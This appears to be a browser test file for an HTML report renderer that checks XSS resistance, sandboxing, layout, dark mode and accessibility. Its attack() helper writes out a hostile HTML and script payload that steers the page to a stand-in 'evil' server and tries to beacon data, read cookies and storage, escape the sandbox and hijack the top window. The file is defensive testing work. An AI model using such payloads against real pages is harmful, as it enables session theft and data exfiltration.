import { assert, assertEquals } from "../../lib/deps/assert.ts";
import { renderReport } from "../../lib/report/render_report.ts";
import { openBrowser, skipsBrowserTests } from "../browser.ts";
import { failedRecord, sampleNotebook, samplePreviews, sampleRecord } from "../report/sample_run.ts";
import { payloads } from "../report/xss_corpus.ts";

import type { RunRecord } from "../../lib/base/record.ts";
import type { Notebook, Output } from "../../lib/notebook/ipynb.ts";
import type { Browser, Page } from "../deps.ts";

const ignore = skipsBrowserTests();

/** All that a page did which a report must not do. */
interface Watch {
  page: Page;
  problems: string[];
  /** Requests for anything but the report that no policy stopped. */
  requests: Set<string>;
}

Deno.test({
  name: "case 53: no text in any field of a record, notebook or preview becomes markup or code",
  ignore,
  fn: async () => {
    assert(payloads.length >= 60);
    await inBrowser(async (browser, dir) => {
      const watch = await openWatched(browser);
      for (const { name, make } of poisonedReports()) {
        const path = await writeReport(dir, await make());
        await watch.page.goto(`file://${path}`);
        await checkDom(watch, name);
      }
      assertEquals(watch.problems, []);
      assertEquals([...watch.requests], []);
      assertEquals("canary" in globalThis, false, "a template ran code while rendering");
    });
  },
});

Deno.test({
  name: "case 54: rich HTML reaches neither the page, nor the top window, nor the network, nor storage",
  ignore,
  fn: async () => {
    const hits: string[] = [];
    await using server = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen() {} }, (request) => {
      const { pathname } = new URL(request.url);
      if (pathname !== "/favicon.ico") hits.push(pathname);
      return new Response("", { headers: { "access-control-allow-origin": "*" } });
    });
    const evil = `http://127.0.0.1:${server.addr.port}`;
    await inBrowser(async (browser, dir) => {
      const report = await reportWithHtml(attack(evil));
      // Both walls, then each alone.
      const both = await probe(browser, await writeReport(dir, report), evil);
      assertEquals(both, { ran: false, canary: false, url: true, blocked: [] });
      assertEquals(hits.splice(0), ["/done"]);
      const policyOnly = report.replaceAll(' sandbox="allow-scripts"', "");
      assert(policyOnly !== report);
      assertEquals((await probe(browser, await writeReport(dir, policyOnly), evil)).ran, false);
      assertEquals(hits.splice(0), ["/done"]);
      const sandboxOnly = report.replaceAll(/<meta http-equiv="Content-Security-Policy"[^>]*>/g, "")
        .replaceAll(/&lt;meta http-equiv=&quot;Content-Security-Policy&quot;.*?&gt;/g, "");
      const alone = await probe(browser, await writeReport(dir, sandboxOnly), evil);
      const walls = ["parent.document", "top.location", "localStorage", "cookie", "sandbox", "popup"];
      assertEquals(alone, { ran: true, canary: false, url: true, blocked: walls });
    });
  },
});

Deno.test({
  name: "case 55: a report of 5 MB opens from file://, offline, without a console error",
  ignore,
  fn: async () => {
    await inBrowser(async (browser, dir) => {
      const line = "\x1b[32mok\x1b[0m a line of output <that> is long enough to be like a real one, number ";
      const text = Array.from({ length: 40_000 }, (_, i) => line + i).join("\n");
      const rows = Array.from({ length: 20_000 }, (_, i) => ({ row: i, value: Math.sin(i), name: `row ${i}` }));
      const outputs: Output[] = [
        { output_type: "stream", name: "stdout", text },
        { output_type: "display_data", data: { "application/json": rows }, metadata: {} },
        { output_type: "display_data", data: { "application/vnd.dataresource+json": { data: rows } }, metadata: {} },
        { output_type: "display_data", data: { "text/html": "<p>framed</p>" }, metadata: {} },
      ];
      const report = await renderReport(sampleRecord(), sampleNotebook(outputs), { previews: samplePreviews() });
      assert(report.length > 5_000_000, `the report has ${report.length} characters only`);
      const watch = await openWatched(browser);
      const start = performance.now();
      await watch.page.goto(`file://${await writeReport(dir, report)}`, { timeout: 10_000 });
      console.log(
        `case 55: ${(report.length / 1e6).toFixed(1)} MB loaded in ${Math.round(performance.now() - start)} ms`,
      );
      await watch.page.waitForFunction(framesAreSized);
      assertEquals(watch.problems, []);
      assertEquals([...watch.requests], []);
    });
  },
});

Deno.test({
  name: "renderReport() makes a page that does not scroll sideways on a phone of 360 px",
  ignore,
  fn: async () => {
    await inBrowser(async (browser, dir) => {
      const page = await browser.newPage({ viewport: { width: 360, height: 740 } });
      const long = "x".repeat(300);
      const wide = sampleRecord({ statusText: long, instance: long });
      wide.inputs[0].path = `/${long}`;
      for (const record of [wide, failedRecord()]) {
        const report = await renderReport(record, sampleNotebook(), {
          previews: samplePreviews(),
          config: { [long]: long, deep: { list: [{ [long]: long }] } },
        });
        await page.goto(`file://${await writeReport(dir, report)}`);
        await page.evaluate(() => document.querySelectorAll("details").forEach((item) => item.open = true));
        assertEquals(await page.evaluate(() => document.documentElement.scrollWidth), 360);
      }
    });
  },
});

Deno.test({
  name: "renderReport() follows dark mode, in frames too, and prints on white",
  ignore,
  fn: async () => {
    await inBrowser(async (browser, dir) => {
      const page = await browser.newPage({ colorScheme: "dark" });
      const probe = "<p id=probe>x</p>";
      const outputs: Output[] = [{ output_type: "display_data", data: { "text/html": probe }, metadata: {} }];
      await page.goto(`file://${await writeReport(dir, await renderReport(sampleRecord(), sampleNotebook(outputs)))}`);
      await page.waitForFunction(framesAreSized);
      const [ground, ink] = await page.evaluate(colorsOfPage);
      assert(brightness(ground) < 40 && brightness(ink) > 180, `${ground} ${ink}`);
      const framed = await page.frames()[1].evaluate(() => getComputedStyle(document.querySelector("#probe")!).color);
      assert(brightness(framed) > 180, framed);
      await page.emulateMedia({ media: "print", colorScheme: "dark" });
      const [paper, print] = await page.evaluate(colorsOfPage);
      assert(brightness(paper) === 255 && brightness(print) < 80, `${paper} ${print}`);
      const pdf = await page.pdf({ format: "A4" });
      assertEquals(new TextDecoder().decode(pdf.slice(0, 5)), "%PDF-");
      const pages = new TextDecoder("latin1").decode(pdf).match(/\/Type\s*\/Page\b(?!s)/g)?.length ?? 0;
      assert(pages >= 1 && pages < 8, `${pages} pages`);
    });
  },
});

Deno.test({
  name: "renderReport() works by keyboard and link: the failing cell is reached and open, code hides without a script",
  ignore,
  fn: async () => {
    await inBrowser(async (browser, dir) => {
      const context = await browser.newContext({ javaScriptEnabled: false });
      const page = await context.newPage();
      await page.goto(`file://${await writeReport(dir, await renderReport(failedRecord(), sampleNotebook()))}`);
      await page.click("a.jump");
      assert(page.url().endsWith("#cell-3"));
      assert(await page.locator("#cell-3 .l.bad").isVisible());
      assertEquals(await page.locator("#cell-3 .l.bad").innerText(), "const rows = await load(`${text}.csv`);");
      await page.check("#hide-code");
      assertEquals(await page.locator("#cell-3 .l.bad").isVisible(), false);
      assert(await page.locator("#cell-3 .out").first().isVisible());
    });
  },
});

/** Reports in which every text is a payload: several in each, one in each, and with the words of the format kept or not. */
function* poisonedReports(): Generator<{ name: string; make: () => Promise<string> }> {
  const sources = [sampleRecord, failedRecord];
  let turn = 0;
  const report = (keepWords: boolean, next: () => string) => {
    const parts = [sources[turn++ % 2](), sampleNotebook(), samplePreviews()];
    const [record, notebook, previews] = parts.map((part) => poison(part, next, keepWords));
    const config = { [next()]: next(), [next()]: { [next()]: [next(), { [next()]: next() }] } };
    return () =>
      renderReport(
        record as RunRecord,
        notebook as Notebook,
        { previews: previews as typeof parts[2], config } as never,
      );
  };
  for (const keepWords of [true, false]) {
    for (let first = 0; first < payloads.length; first += 7) {
      const joined = payloads.slice(first, first + 7).join("\n");
      yield { name: `payloads ${first}…, words ${keepWords}`, make: report(keepWords, () => joined) };
    }
    for (let offset = 0; offset < payloads.length; offset += 13) {
      let i = offset;
      const next = () => payloads[i++ % payloads.length];
      yield { name: `from payload ${offset}, words ${keepWords}`, make: report(keepWords, next) };
    }
  }
}

const words = new Set(["output_type", "cell_type", "kind", "status", "mime", "base64"]);

/** A copy in which every text is replaced, except, if asked, those that say what kind of thing an object is. */
function poison(value: unknown, next: () => string, keepWords: boolean, key = ""): unknown {
  if (typeof value === "string") {
    const isWord = words.has(key) || value === "stdout" || value === "stderr" || value === "default";
    return keepWords && isWord ? value : next();
  }
  if (Array.isArray(value)) return value.map((item) => poison(item, next, keepWords, key));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, item]) => [name, poison(item, next, keepWords, name)]),
  );
}

async function openWatched(browser: Browser): Promise<Watch> {
  const context = await browser.newContext({ offline: true });
  const page = await context.newPage();
  const problems: string[] = [];
  const requests = new Set<string>();
  context.on("request", (request) => {
    if (!/^(file:.*report-\d+\.html|data:|about:)/.test(request.url())) requests.add(request.url());
  });
  // Chromium announces a request before the policy, or ("other") the rule that frames read no local files, stops it.
  context.on("requestfailed", (request) => {
    if (["csp", "other"].includes(request.failure()?.errorText ?? "")) requests.delete(request.url());
  });
  context.on("page", (other) => problems.push(`popup ${other.url()}`));
  page.on("dialog", async (dialog) => {
    problems.push(`dialog ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on("pageerror", (error) => problems.push(`error ${error.message}`));
  page.on("console", (message) => {
    // Frames complain when their policy stops something; the page itself must have no reason to.
    const isOurs = message.location().url.startsWith("file:");
    if (isOurs && ["error", "warning"].includes(message.type())) problems.push(`console ${message.text()}`);
  });
  return { page, problems, requests };
}

async function checkDom({ page, problems }: Watch, name: string): Promise<void> {
  const found = await page.evaluate(inspectDom);
  problems.push(...found.map((text) => `${name}: ${text}`));
  for (const frame of page.frames()) {
    if (await frame.evaluate(() => "canary" in globalThis)) problems.push(`${name}: canary in ${frame.url()}`);
  }
  if (!page.url().startsWith("file:")) problems.push(`${name}: page went to ${page.url()}`);
}

/** Runs in the page: everything that a report never has. */
function inspectDom(): string[] {
  const problems: string[] = [];
  const known = new Set(
    ("a body blockquote br button caption code dd details div dl dt em footer h1 h2 h3 h4 h5 h6 head header hr html iframe " +
      "img input label li link main meta nav ol p pre s script section small span strong style summary table tbody td th " +
      "thead title tr ul").split(" "),
  );
  const count = (name: string, expected: number) => {
    const { length } = document.querySelectorAll(name);
    if (length !== expected) problems.push(`${length} ${name}`);
  };
  for (
    const [name, expected] of [["script", 1], ["style", 1], ["meta", 6], ["link", 1], ["h1", 1], ["input", 1]] as const
  ) {
    count(name, expected);
  }
  for (const element of document.querySelectorAll("*")) {
    if (!known.has(element.localName)) problems.push(`element ${element.localName}`);
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on")) problems.push(`attribute ${name}`);
      if (
        name === "style" && !/^(counter-reset:line -?\d+|(color|background):rgb\([\d,]+\)|height: \d+px;)/.test(value)
      ) {
        problems.push(`style ${value}`);
      }
    }
    if (element instanceof HTMLAnchorElement && element.href !== "") {
      if (!/^(https?|mailto|file):$/.test(element.protocol)) problems.push(`link ${element.href}`);
      const outside = element.protocol === "file:" && element.host !== "";
      if (outside) problems.push(`link to a share ${element.href}`);
    }
    if (element instanceof HTMLImageElement && !element.src.startsWith("data:image/")) {
      problems.push(`image ${element.src}`);
    }
    if (element instanceof HTMLIFrameElement && element.getAttribute("sandbox") !== "allow-scripts") {
      problems.push("frame");
    }
  }
  // deno-lint-ignore no-control-regex
  const hidden = /[\x00-\x08\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]/.exec(document.body.innerText);
  if (hidden) problems.push(`hidden character ${hidden[0].charCodeAt(0)}`);
  if ("canary" in globalThis) problems.push("canary");
  return problems;
}

function attack(evil: string): string {
  const script = `
    const blocked = [];
    const attempt = (name, run) => { try { run(); } catch { blocked.push(name); } };
    attempt("parent.document", () => parent.document.body.remove());
    attempt("top.location", () => { top.location.href = "${evil}/top"; });
    attempt("localStorage", () => localStorage.setItem("x", "1"));
    attempt("cookie", () => document.cookie);
    attempt("sandbox", () => { frameElement.removeAttribute("sandbox"); });
    attempt("popup", () => { open("${evil}/popup").focus(); });
    parent.postMessage({ probe: blocked }, "*");
    fetch("${evil}/fetch").catch(() => {});
    navigator.sendBeacon?.("${evil}/beacon");`;
  return `<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">
    <link rel="stylesheet" href="${evil}/css"><link rel="preload" as="fetch" href="${evil}/preload">
    <style>@import "${evil}/import"; body { background: url(${evil}/background) }</style>
    <img src="${evil}/img" onerror="parent.postMessage({ probe: ['onerror'] }, '*')">
    <iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object><video src="${evil}/video"></video>
    <form action="${evil}/form"><button id="send">send</button></form><a id="go" href="${evil}/link" ping="${evil}/ping">go</a>
    <svg><image href="${evil}/svg"/></svg><script src="${evil}/script"></script><script>${script}</script>`;
}

async function reportWithHtml(html: string): Promise<string> {
  const outputs: Output[] = [{ output_type: "display_data", data: { "text/html": html }, metadata: {} }];
  return await renderReport(sampleRecord(), sampleNotebook(outputs));
}

/** Opens a report with the attack, clicks what can be clicked, and tells how far the attack came. */
async function probe(browser: Browser, path: string, server: string) {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.addInitScript(() => {
    addEventListener("message", (event) => {
      const probes = globalThis as { probes?: unknown[] };
      if (event.data?.probe) probes.probes = [...probes.probes ?? [], ...event.data.probe];
    });
  });
  await page.goto(`file://${path}`);
  await page.waitForFunction(framesAreSized);
  const frame = page.frames()[1];
  for (const id of ["#go", "#send"]) await frame.click(id, { timeout: 1000, noWaitAfter: true }).catch(() => {});
  // A request of our own, made last: what the attack sent, if anything, has arrived before it.
  await (await context.newPage()).goto(`${server}/done`);
  const probes = await page.evaluate(() => (globalThis as { probes?: string[] }).probes);
  const canary = await page.evaluate(() => document.body === null || "canary" in globalThis);
  const url = page.url() === `file://${path}`;
  await context.close();
  return { ran: probes !== undefined, canary, url, blocked: (probes ?? []).filter((name) => name !== "onerror") };
}

function framesAreSized(): boolean {
  return [...document.querySelectorAll("iframe")].every((frame) => frame.style.height !== "");
}

function colorsOfPage(): string[] {
  return [getComputedStyle(document.documentElement).backgroundColor, getComputedStyle(document.body).color];
}

function brightness(color: string): number {
  const [red, green, blue] = color.match(/[\d.]+/g)!.map(Number);
  return (red + green + blue) / 3;
}

let reports = 0;

async function writeReport(dir: string, report: string): Promise<string> {
  const path = `${dir}/report-${reports++}.html`;
  await Deno.writeTextFile(path, report);
  return path;
}

async function inBrowser(use: (browser: Browser, dir: string) => Promise<void>): Promise<void> {
  const dir = await Deno.makeTempDir({ prefix: "report_browser_" });
  const browser = await openBrowser();
  try {
    await use(browser, dir);
  } finally {
    await browser.close();
    await Deno.remove(dir, { recursive: true });
  }
}
